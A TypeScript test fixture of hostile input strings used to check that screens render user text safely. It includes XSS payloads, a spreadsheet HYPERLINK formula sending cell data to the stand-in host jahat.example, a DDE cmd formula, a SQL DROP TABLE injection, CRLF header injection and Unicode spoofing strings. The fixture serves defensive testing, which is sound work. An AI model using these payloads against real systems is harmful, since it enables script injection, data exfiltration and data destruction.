/**
 * Attack strings, shared by tests of all screens: harmless as text; anywhere else they raise a dialog,
 * send a request or break the layout. The addresses are valid URIs, as the contract requires; invalid ones are tested
 * where addresses are checked.
 */
export const hostile = {
  script: '<script>alert("jahat")</script>',
  handler: '<img src=x onerror="alert(1)">',
  breakout: '"><svg onload=alert(2)>',
  unclosed: '<b><i><a href="https://jahat.example/?',
  comment: '<!-- <textarea><title>',
  javascriptUrl: 'javascript:alert(3)',
  mixedCaseUrl: 'jAvAsCrIpT:alert(4)',
  dataUrl: 'data:text/html,%3Cscript%3Ealert(5)%3C/script%3E',
  vbscriptUrl: 'vbscript:msgbox(6)',
  plainUrl: 'http://jahat.example/gambar.png',
  rightToLeft: '\u202Egpj.tivuka\u202C kode',
  zeroWidth: 'ja\u200Bh\u200Cat\u2060\uFEFF',
  combining: 'Z\u0351\u036B\u0343\u036A\u0302a\u0363\u0348\u0332\u033Elgo',
  longWord: 'W'.repeat(300),
  formula: '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+1)*cmd',
  template: '{{position}} ${7*7} <%= 7*7 %>',
  sql: "'; DROP TABLE orang; --",
  entities: '&lt;img src=x onerror=alert(7)&gt; &amp;',
  newlines: 'baris satu\r\nSet-Cookie: jahat=1',
  html: '<p>Halo <b>tebal</b></p><style>*{display:none}</style><form action="https://jahat.example"><input name="sandi"></form><iframe src="javascript:alert(8)"></iframe><a href="javascript:alert(9)" onclick="alert(10)">klik</a>',
} as const
